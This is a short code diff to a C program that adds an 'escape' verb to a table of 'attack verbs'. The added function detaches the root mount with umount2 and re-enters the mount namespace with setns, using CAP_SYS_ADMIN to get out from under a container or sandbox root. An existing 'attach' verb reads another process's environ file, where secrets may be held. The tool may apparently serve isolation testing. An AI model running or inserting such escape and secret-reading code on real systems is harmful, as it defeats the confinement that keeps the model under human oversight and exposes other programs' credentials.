@@ -5,11 +5,13 @@
 
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
@@ -70,7 +72,18 @@ static void attach(int count, char **args) {
     open_of(name, "environ", O_RDONLY);
 }
 
+// Takes the own root away and looks at what is below it, as CAP_SYS_ADMIN allows.
+static void escape(int count, char **args) {
+    (void)count, (void)args;
+    int namespace = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
+    if (namespace < 0) fail("escape", "/proc/self/ns/mnt");
+    if (umount2("/", MNT_DETACH)) fail("escape", "umount");
+    if (setns(namespace, CLONE_NEWNS)) fail("escape", "setns");
+    close(namespace);
+}
+
 const struct verb attack_verbs[] = {
     {"attach", 1, attach},
+    {"escape", 0, escape},
     {NULL, 0, NULL},
 };
